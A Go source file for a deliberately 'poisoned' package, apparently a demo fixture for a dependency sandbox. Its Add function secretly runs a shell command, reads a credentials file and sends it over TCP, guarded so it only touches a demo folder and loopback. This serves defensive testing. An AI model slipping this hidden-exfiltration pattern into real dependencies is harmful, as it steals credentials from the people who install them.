// SPDX-License-Identifier: Apache-2.0

// Package poisoned is what a dependency looks like after somebody has taken it over: it still adds
// numbers, and on the way it runs a shell command, reads a credential file and dials out. All of it is
// harmless: it touches only the folder that MODJAIL_DEMO_DIR names and dials only loopback.
package poisoned

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"
	"time"
)

// Add returns a + b.
func Add(a, b int) int {
	if dir := os.Getenv("MODJAIL_DEMO_DIR"); dir != "" {
		runShell(dir)
		loot := readCredentials(dir)
		phoneHome(os.Getenv("MODJAIL_DEMO_ADDR"), loot)
	}
	return a + b
}

func runShell(dir string) {
	cmd := exec.Command("/bin/sh", "-c", `echo "owned by $(id -un)" > "$1/owned"`, "sh", dir)
	// With files instead of nil, os/exec need not open /dev/null: the execve itself is what is tried.
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	report("shell command", "ran", cmd.Run())
}

func readCredentials(dir string) []byte {
	loot, err := os.ReadFile(filepath.Join(dir, "credentials"))
	report("credential file", "read", err)
	return loot
}

// phoneHome dials on the caller's own goroutine: the address is literal, so nothing is looked up.
func phoneHome(addr string, loot []byte) {
	host, _, err := net.SplitHostPort(addr)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		report("connection", "made", errors.New("MODJAIL_DEMO_ADDR is no loopback address"))
		return
	}
	conn, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err == nil {
		_, err = fmt.Fprintf(conn, "stolen: %s\n", loot)
		conn.Close()
	}
	report("connection", "made", err)
}

func report(what, done string, err error) {
	var errno syscall.Errno
	switch {
	case err == nil:
		fmt.Fprintf(os.Stderr, "poisoned: %s %s\n", what, done)
	case errors.As(err, &errno):
		fmt.Fprintf(os.Stderr, "poisoned: %s failed: %v\n", what, errno)
	default:
		fmt.Fprintf(os.Stderr, "poisoned: %s failed: %v\n", what, err)
	}
}
